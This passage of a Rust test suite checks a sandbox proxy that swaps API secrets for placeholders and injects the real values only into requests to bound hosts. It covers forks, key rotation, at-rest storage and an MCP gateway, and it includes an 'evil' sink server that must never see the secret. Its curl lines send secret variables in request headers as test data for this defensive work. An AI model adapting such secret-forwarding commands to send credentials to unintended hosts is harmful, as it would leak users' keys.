    assert!(
        seen.to_ascii_lowercase()
            .contains(&format!("x-api-key: key {VALUE}").to_ascii_lowercase()),
        "the rule's header: {seen}"
    );
    assert!(!evil.seen().contains(VALUE), "{}", evil.seen());

    // A fork is given the secret too, with placeholders of its own.
    let (st, forked) = api.call(
        "POST",
        &format!("/v1/sandboxes/{id}/fork"),
        Some(serde_json::json!({"count": 1})),
    );
    assert_eq!(st, 201, "{forked}");
    let child = forked["sandboxes"][0]["id"].as_str().unwrap().to_string();
    let (st, out) = api.call(
        "POST",
        &format!("/v1/sandboxes/{child}/exec"),
        Some(serde_json::json!({"cmd": format!("echo $GH; curl -sS -H \"Authorization: Bearer $GH\" {url}/fork"), "timeout": "60s"})),
    );
    assert_eq!(st, 200, "{out}");
    let child_out = out["stdout"].as_str().unwrap_or_default();
    assert!(
        child_out.starts_with("cordon-secret:v1:")
            && !child_out.starts_with(&placeholder)
            && child_out.contains("upstream saw the value"),
        "{out}"
    );

    // A new version reaches the running sandbox's next request.
    let rotated = "sk-test-rotated-second-value";
    let (st, upd) = e2b(
        "POST",
        "/secrets/gh",
        Some(serde_json::json!({"value": rotated})),
    );
    assert_eq!(st, 200, "{upd}");
    assert_eq!(
        serde_json::from_str::<Value>(&upd).unwrap()["currentVersion"],
        2
    );
    exec(format!(
        "curl -sS -H \"Authorization: Bearer $GH\" {url}/two"
    ));
    assert!(
        up.seen()
            .contains(&format!("Authorization: Bearer {rotated}")),
        "{}",
        up.seen()
    );

    // At rest: neither the database nor the audit trail holds a value in the clear.
    for f in ["cordon.db", "cordon.db-wal", "audit.jsonl"] {
        let bytes = std::fs::read(api.data_dir.join(f)).unwrap_or_default();
        let text = String::from_utf8_lossy(&bytes);
        assert!(
            !text.contains(VALUE) && !text.contains(rotated),
            "{f} holds a value"
        );
    }
    let (st, _) = e2b("DELETE", "/secrets/gh", None);
    assert_eq!(st, 204);
    let (st, _) = e2b("DELETE", "/secrets/gh", None);
    assert_eq!(st, 404);
}

/// A stdlib-only MCP server with one tool: an HTTPS GET through the sandbox's proxy, answering
/// what the upstream said and the variable the sandbox holds.
const FETCH_SERVER: &str = r#"
import json, os, sys, urllib.request
for line in sys.stdin:
    m = json.loads(line)
    method = m.get("method")
    if method == "initialize":
        result = {"protocolVersion": m["params"]["protocolVersion"], "capabilities": {"tools": {}},
                  "serverInfo": {"name": "fetch", "version": "1"}}
    elif method == "tools/list":
        result = {"tools": [{"name": "get", "description": "GET a URL",
                             "inputSchema": {"type": "object", "properties": {"url": {"type": "string"}}}}]}
    elif method == "tools/call":
        try:
            body = urllib.request.urlopen(m["params"]["arguments"]["url"], timeout=20).read().decode()
        except Exception as e:
            body = "error: %r" % e
        result = {"content": [{"type": "text", "text": body + "|env:" + os.environ.get("API_KEY", "")}]}
    else:
        continue
    print(json.dumps({"jsonrpc": "2.0", "id": m["id"], "result": result}), flush=True)
"#;

/// A gateway's upstream tool server gets the same mechanism: its profile's secret is read by
/// the gateway, the server's sandbox holds a placeholder, and its requests to the bound host
/// carry the value.
#[test]
fn a_gateway_upstreams_secret_reaches_its_host_and_never_its_sandbox() {
    let dir = temp_dir("gateway");
    let ca = TestCa::new("test upstream CA");
    let up = Server::tls("127.0.0.9", ca.leaf("api.secret.test"));
    let p = up.port;
    std::fs::write(dir.join("fetch_server.py"), FETCH_SERVER).unwrap();
    let profile = dir.join("p.toml");
    std::fs::write(
        &profile,
        format!(
            r#"
[network]
allow = ["api.secret.test:{p}", "127.0.0.9:{p}"]
hosts = {{ "api.secret.test" = "127.0.0.9" }}

[secrets.API_KEY]
value = "env:TEST_SECRET_VALUE"
hosts = ["api.secret.test"]
header = "Authorization"
format = "Bearer {{value}}"
ca = "{ca}"
"#,
            ca = ca.file(&dir, "ca.pem").display()
        ),
    )
    .unwrap();
    let config = dir.join("gateway.toml");
    std::fs::write(
        &config,
        format!(
            "[gateway]\ndefault = \"allow\"\n\n[servers.fetch]\ncommand = [\"/usr/bin/python3\", \"{d}/fetch_server.py\"]\nprofile = \"{prof}\"\nro = [\"{d}\"]\n",
            d = dir.display(),
            prof = profile.display()
        ),
    )
    .unwrap();
    let mut child = Command::new(env!("CARGO_BIN_EXE_cordon"))
        .args(["gateway", "--config"])
        .arg(&config)
        .env("TEST_SECRET_VALUE", VALUE)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("start cordon gateway");
    let mut stdin = child.stdin.take().unwrap();
    let mut lines = std::io::BufRead::lines(std::io::BufReader::new(child.stdout.take().unwrap()));
    let mut ask = |id: i64, method: &str, params: Value| -> Value {
        let msg =
            serde_json::json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params});
        writeln!(stdin, "{msg}").unwrap();
        stdin.flush().unwrap();
        loop {
            let line = lines.next().expect("the gateway answers").unwrap();
            let v: Value = serde_json::from_str(&line).unwrap();
            if v["id"] == id {
                return v;
            }
        }
    };
    ask(
        0,
        "initialize",
        serde_json::json!({"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}),
    );
    let r = ask(
        1,
        "tools/call",
        serde_json::json!({"name": "fetch.get", "arguments": {"url": format!("https://api.secret.test:{p}/gw")}}),
    );
    let _ = child.kill();
    let mut stderr = String::new();
    if let Some(mut e) = child.stderr.take() {
        let _ = e.read_to_string(&mut stderr);
    }
    let _ = child.wait();
    let text = r["result"]["content"][0]["text"]
        .as_str()
        .unwrap_or_default();
    assert!(text.starts_with("upstream saw the value"), "{r}\n{stderr}");
    let placeholder = text.split("|env:").nth(1).unwrap_or_default();
    assert!(placeholder.starts_with("cordon-secret:v1:"), "{text}");
    assert!(
        !r.to_string().contains(VALUE) && !stderr.contains(VALUE),
        "{r}"
    );
    assert!(
        up.seen()
            .contains(&format!("Authorization: Bearer {VALUE}")),
        "{}",
        up.seen()
    );
}
